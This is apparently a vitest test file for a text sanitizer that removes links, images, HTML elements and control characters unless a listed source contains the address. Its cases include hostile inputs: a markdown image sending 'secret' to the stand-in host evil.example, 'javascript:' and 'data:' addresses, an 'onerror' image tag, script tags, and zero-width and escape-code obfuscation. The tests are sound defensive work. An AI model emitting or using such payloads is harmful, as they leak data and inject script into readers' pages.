import { expect, test } from 'vitest';
import { clean } from './clean.ts';

const source = 'See https://docs.example.com/leases?x=1 for more; the picture is https://docs.example.com/p.png.';
const cleaned = (text: string) => clean(text, [source]);

test.each([
  ['a picture', 'a ![secret](https://evil.example/?q=secret) b', 'a  b'],
  ['a picture that the source has', '![p](https://docs.example.com/p.png)', ''],
  ['a picture by reference', '![x][1]', ''],
  ['a picture from a relative address', '![x](/p.png?q=1)', ''],
  ['a picture without an end', '![x](https://evil.example/?q=1', '((link removed)'],
  ['a link', '[click](https://evil.example/?q=secret).', 'click (link removed).'],
  ['a link with an encoded address', '[click](https:&#47;&#47;evil.example/?q=1)', 'click https:&#47;&#47;evil.example/?q=1'],
  ['a link in two parts', 'a] (b', 'a] (b'],
  ['an address', 'go to https://evil.example/?q=1, now', 'go to (link removed), now'],
  ['an address in upper case', 'HTTPS://EVIL.EXAMPLE', '(link removed)'],
  ['an address with a space of no width', 'ht\u200btps://evil.example', '(link removed)'],
  ['an address without a scheme', '//evil.example/x www.evil.example', '(link removed) (link removed)'],
  ['an address in angle brackets', '<https://evil.example>', '<(link removed)>'],
  ['a script', 'javascript:alert(1) data:text/html,x', '(link removed)) (link removed)'],
  ['elements', 'a <img src=x onerror=y> b <script>c</script> <A HREF="x">d</A>', 'a  b c d'],
  ['an element without an end', 'a <img src="x', 'a '],
  ['a definition of a reference', '[1]: https://evil.example/', '1: (link removed)'],
  ['control characters', 'a\u001b[31mred\u001b[0m\u0007\u0000b\u202ec', 'aredbc'],
  ['other line ends', 'a\r\nb\u2028c', 'a\nb\nc'],
])('%s is taken out', (_what, text, expected) => expect(cleaned(text)).toBe(expected));

test.each([
  ['an address that a source has', 'See https://docs.example.com/leases?x=1.'],
  ['code', 'Array<string> of a: b, list[x](y) => z'.replace('](', '] (')],
  ['prices and times', 'At 10:30, 5 / 7 of 3 < 4 > 2; the file: x, data: y'],
  ['emoji and joined letters', '👩‍👩‍👧 می‌خواهم'],
])('%s stays', (_what, text) => expect(cleaned(text)).toBe(text));

test('a link that a source has becomes its words and its address', () => {
  expect(cleaned('[leases](https://docs.example.com/leases?x=1)')).toBe('leases https://docs.example.com/leases?x=1');
});

test('nothing that is put together of what is left is a link or a picture', () => {
  for (const text of ['!![a](b)[c](d)', '[a[b](c)](d)', '![![a](b)](c)', '[a](b', '!\u200b[a](b)', '[![a](b)](https://evil.example)'])
    expect(cleaned(text), text).not.toMatch(/\]\(|!\[|https?:/);
});
